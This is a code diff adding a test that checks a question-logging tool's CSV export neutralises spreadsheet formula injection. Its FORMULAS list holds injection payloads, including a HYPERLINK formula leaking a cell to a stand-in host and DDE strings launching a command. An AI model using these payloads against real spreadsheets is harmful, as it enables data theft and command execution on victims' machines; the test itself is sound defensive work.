@@ -260,6 +260,41 @@ def test_ignore_and_export(store: Store, settings: Settings, tmp_path: Path) -> 
     assert again.exit_code == 1 and "already ignored" in again.stderr
 
 
+# What a resident may type to make a spreadsheet run something (OWASP's CSV injection list:
+# a cell starting with = + - @, a tab or a carriage return is read as a formula).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点这里查看托育政策")',
+    "=cmd|' /C calc'!A0",
+    "+1+1 托育怎么办",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1 托育",
+    "\r=1+1 托育",
+]
+
+
+def test_export_neutralises_formulas(store: Store, tmp_path: Path) -> None:
+    """Every cell a spreadsheet would read as a formula starts with a single quote."""
+    for text in [*FORMULAS, "公积金怎么提取"]:
+        ask(store, text)
+    store.flush()
+    with store.reader() as db:
+        stored = [row["text"] for row in db.query("SELECT text FROM questions ORDER BY rowid")]
+    exported = tmp_path / "missed.csv"
+    assert run("export", "--csv", str(exported)).exit_code == 0
+    with exported.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    texts = {row["text"] for row in rows}
+    assert len(texts) == len(stored)
+    for text in stored[: len(FORMULAS)]:
+        assert text[0] in "=+-@\t\r", repr(text)  # stored as typed …
+        assert "'" + text in texts  # … and exported as text, nothing else changed
+    assert "公积金怎么提取" in texts  # an ordinary question is left alone
+    for row in rows:
+        for column, value in row.items():
+            assert not value or value[0] not in "=+-@\t\r", (column, value)
+
+
 def test_stats(store: Store) -> None:
     answered = ask(store, "六零行动是什么", outcome="answer")
     store.log_question(
